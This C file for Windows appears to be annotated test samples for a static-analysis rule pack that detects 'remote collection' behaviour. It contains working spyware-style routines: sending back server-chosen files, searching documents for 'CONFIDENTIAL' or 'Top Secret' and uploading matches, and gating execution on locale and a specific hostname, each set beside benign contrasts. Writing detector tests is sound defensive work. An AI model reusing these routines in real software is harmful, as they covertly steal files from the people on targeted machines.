/* Annotated samples for the remote-collection pack in C (Windows). */
#include <windows.h>
#include <winsock2.h>
#include <string.h>
#include <stdio.h>

/* The server names a path; the file is read and sent back. */
void fetch_requested(SOCKET s)
{
	char path[MAX_PATH];
	char data[8192];
	DWORD got = 0;
	int n = recv(s, path, sizeof path - 1, 0);
	path[n] = 0;
	HANDLE f = CreateFileA(path, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL); // want "remote-collection/server-chosen-path"
	ReadFile(f, data, sizeof data, &got, NULL);
	send(s, data, got, 0);
	CloseHandle(f);
}

/* The server names a path that is only checked for existence: nothing is uploaded. */
int exists_requested(SOCKET s)
{
	char path[MAX_PATH];
	recv(s, path, sizeof path, 0);
	HANDLE f = CreateFileA(path, GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL); /* ok: opened, but nothing read from it is sent */
	int ok = f != INVALID_HANDLE_VALUE;
	CloseHandle(f);
	return send(s, ok ? "1" : "0", 1, 0);
}

/* Documents are searched for keywords and uploaded when they match. */
static int interesting(const char *text)
{
	return strstr(text, "CONFIDENTIAL") != NULL || strstr(text, "Top Secret") != NULL; // want "remote-collection/keyword-search"
}

void harvest(SOCKET s, const char *path)
{
	char text[65536];
	DWORD got = 0;
	HANDLE f = CreateFileA(path, GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL);
	ReadFile(f, text, sizeof text - 1, &got, NULL);
	text[got] = 0;
	if (interesting(text))
		send(s, text, got, 0);
	CloseHandle(f);
}

/* A scanner that looks for a signature and uploads nothing is not collection. */
int scan_file(const char *path)
{
	char buf[4096];
	DWORD got = 0;
	HANDLE f = CreateFileA(path, GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL);
	ReadFile(f, buf, sizeof buf, &got, NULL);
	CloseHandle(f);
	return memcmp(buf, "MZ", 2) == 0 && strstr(buf, "secret") != NULL; /* ok: searched, but never sent */
}

/* Behaviour gated on the machine's language and name. */
int should_run(void)
{
	LANGID lang = GetUserDefaultUILanguage();
	if (lang == 0x0419 || lang == 0x0422) // want "remote-collection/host-gated"
		return 0;
	char host[64];
	DWORD n = sizeof host;
	GetComputerNameA(host, &n);
	if (_stricmp(host, "FINANCE-PC01") != 0) // want "remote-collection/host-gated"
		return 0;
	return 1;
}

int is_windows(void)
{
	OSVERSIONINFOA v;
	v.dwOSVersionInfoSize = sizeof v;
	GetVersionExA(&v);
	return v.dwPlatformId == VER_PLATFORM_WIN32_NT; /* ok: an OS version check is not host identity gating */
}
